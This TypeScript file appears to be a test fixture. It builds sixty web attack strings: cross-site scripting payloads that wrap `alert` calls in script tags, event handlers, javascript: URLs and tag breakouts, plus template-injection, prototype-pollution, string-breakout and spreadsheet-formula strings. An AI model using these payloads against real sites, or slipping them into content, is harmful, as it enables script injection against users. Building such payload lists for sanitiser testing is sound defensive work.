/** What executes when a page takes it for code: each calls `alert`, and names itself so that its trace is found. */
const calls = ['alert(1)', 'window.alert`1`', "self['al'+'ert'](1)"];

const tags = (call: string) => [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `'"><img src=x onerror=${call}>`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<body onpageshow="${call}">`,
  `<details open ontoggle="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<a href="javascript:${call}" autofocus>x</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<math><mtext><style><img src=x onerror="${call}"></style></mtext></math>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`,
];

const texts = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`;alert(1);`',
  "';alert(1);//",
  '"};alert(1);//',
  '__proto__',
  'constructor',
  '{"__proto__":{"isAdmin":true}}',
  '\u202Ealert(1)',
  '=HYPERLINK("http://evil.invalid";"x")',
];

/** Texts of people who mean harm: sixty of them. */
export const payloads = [...calls.flatMap(tags), ...texts];
